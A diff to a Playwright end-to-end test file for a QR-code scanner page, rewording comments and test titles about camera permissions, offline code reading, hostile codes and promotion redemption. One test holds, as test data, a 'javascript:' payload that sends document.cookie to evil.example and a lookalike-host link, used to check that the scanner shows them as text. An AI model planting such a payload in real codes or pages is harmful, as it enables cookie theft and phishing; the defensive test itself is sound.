@@ -12,7 +12,7 @@ import { expect, test } from '../support/test.ts';
 
 test.use({ map: 'none' });
 
-// Each has a browser of its own, whose camera sees what the journey wants.
+// Each journey has a browser of its own, whose camera sees a chosen code.
 test.describe.configure({ timeout: 150_000 });
 
 const aiming = (page: Page) => page.getByText('Apunta la cámara a un código QR');
@@ -23,7 +23,7 @@ async function typeCode(page: Page, text: string) {
   await asked.getByRole('textbox', { name: 'Código o dirección' }).press('Enter');
 }
 
-test('the printed code of a place leads to the place, without a byte from elsewhere @phone @even', async ({
+test('the printed code of a place opens the place, without requests to other hosts @phone @even', async ({
   site,
   api,
 }) => {
@@ -31,7 +31,7 @@ test('the printed code of a place leads to the place, without a byte from elsewh
   const text = publicUrl({ kind: 'commerce', slug: place.slug }, site.url);
   const seeing = { text, allowed: true, unreachable: /\.wasm$/ };
   const { page, context, asked, close } = await openScanner(site, seeing);
-  // What reads the code did not arrive; nobody else's server is asked for it.
+  // The code reader could not be loaded, and is not requested from another host.
   await expect(page.getByRole('alert')).toContainText('No se pudo abrir el escáner');
   expect(await camerasOn(page)).toBe(0);
   await context.unrouteAll();
@@ -44,7 +44,7 @@ test('the printed code of a place leads to the place, without a byte from elsewh
   await close();
 });
 
-test('a hostile code is only text; a link is opened after its host was read and confirmed @phone', async ({
+test('a hostile code is only text; a link is opened after its host was confirmed @phone', async ({
   site,
 }) => {
   const hostile = `javascript:location='https://evil.example/'+alert(document.cookie)//${site.url}/c/cafe`;
@@ -57,11 +57,11 @@ test('a hostile code is only text; a link is opened after its host was read and 
   await expect.poll(() => camerasOn(page)).toBe(0);
   await accessible(page, 'text');
 
-  // From a picture: a link to a host that looks like ours.
+  // A picture with a link to a host that looks like ours.
   const link = `${site.url}.evil.example/c/cafe`.replace(/:\d+/, '');
   const picture = await pictureOfCode('QRCode', link);
   await page.getByRole('button', { name: 'Escanear otro' }).click();
-  // The camera still sees the hostile code: without it the picture is read alone.
+  // The camera still sees the hostile code, so it is turned off to read the picture alone.
   await expect(page.getByRole('heading', { name: 'Esto dice el código' })).toBeVisible();
   await context.clearPermissions();
   await page.reload();
@@ -87,7 +87,7 @@ test('a hostile code is only text; a link is opened after its host was read and 
   expect(await opened.evaluate(() => window.opener === null)).toBe(true);
   expect(page.url()).toBe(`${site.url}/qr-scan`);
 
-  // What is no picture says so.
+  // A file that is no picture has a message.
   await page.getByRole('button', { name: 'Escanear otro' }).click();
   await dialog(page, 'Es necesario habilitar los permisos de camara!')
     .getByRole('button', { name: 'Habilitar' })
@@ -96,7 +96,7 @@ test('a hostile code is only text; a link is opened after its host was read and 
     .locator('input[type=file]')
     .setInputFiles({ name: 'nota.png', mimeType: 'image/png', buffer: Buffer.from('no es una imagen') });
   await expect(toast(page, 'No se pudo leer la imagen')).toBeVisible();
-  // Nothing but QR codes is read.
+  // Only QR codes are read.
   await page.locator('input[type=file]').setInputFiles({
     name: 'barras.png',
     mimeType: 'image/png',
@@ -106,11 +106,11 @@ test('a hostile code is only text; a link is opened after its host was read and 
   await close();
 });
 
-test('a person who refuses the camera is asked once, told what to do, and scans as soon as it is allowed @phone @odd', async ({
+test('a person who refuses the camera is asked once, reads what to do, and scans as soon as it is allowed @phone @odd', async ({
   site,
 }) => {
   const { page, allow, close } = await openScanner(site, { text: null, allowed: false });
-  // The one on the back, and nobody listens.
+  // The page requested the rear camera, and no microphone.
   await expect.poll(() => camerasWanted(page)).toHaveLength(1);
   expect(await camerasWanted(page)).toMatchObject([{ video: { facingMode: 'environment' } }]);
   expect((await camerasWanted(page))[0]?.audio ?? false).toBe(false);
@@ -137,7 +137,7 @@ test('a person who refuses the camera is asked once, told what to do, and scans 
   await expect.poll(() => camerasOn(page)).toBe(0);
   await typing.getByRole('button', { name: 'Continuar' }).press('Enter');
   await expect(typing.getByText('Escribe el código.')).toBeVisible();
-  // A letter that no code has, misheard at the counter: it can be corrected at once.
+  // A misheard letter that no code has can be corrected at once.
   const typed = typing.getByRole('textbox', { name: 'Código o dirección' });
   await typed.fill('abcd 2345');
   await typed.press('Enter');
@@ -155,7 +155,7 @@ function ticketOf(site: Site, { login }: SignedIn, promotion: string): Promise<R
   return post(site, `/promotions/${promotion}/redemptions`, {}, login.accessToken);
 }
 
-test('at the counter the code on a person’s screen is read, confirmed and redeemed once, by the promotion’s owner @phone', async ({
+test('at the counter the code on a person’s screen is scanned, confirmed and redeemed once, by the promotion’s owner @phone', async ({
   deviceOf,
   site,
   api,
@@ -175,7 +175,7 @@ test('at the counter the code on a person’s screen is read, confirmed and rede
   await expect(qr).toBeVisible();
   await expect.poll(async () => codesIn(await shopper.screenshot())).toHaveLength(1);
   const [url = ''] = await codesIn(await shopper.screenshot());
-  // What the person reads out, where the camera does not help.
+  // The code that the person reads out when the camera does not work.
   const spoken = await shopper.getByText(/^(?:\w ){3}\w, (?:\w ){3}\w$/).innerText();
   await typeCode(page, spoken.replaceAll(/[\s,]/g, '').toLowerCase());
   await expect(page.getByRole('heading', { name: promotion.title })).toBeFocused();
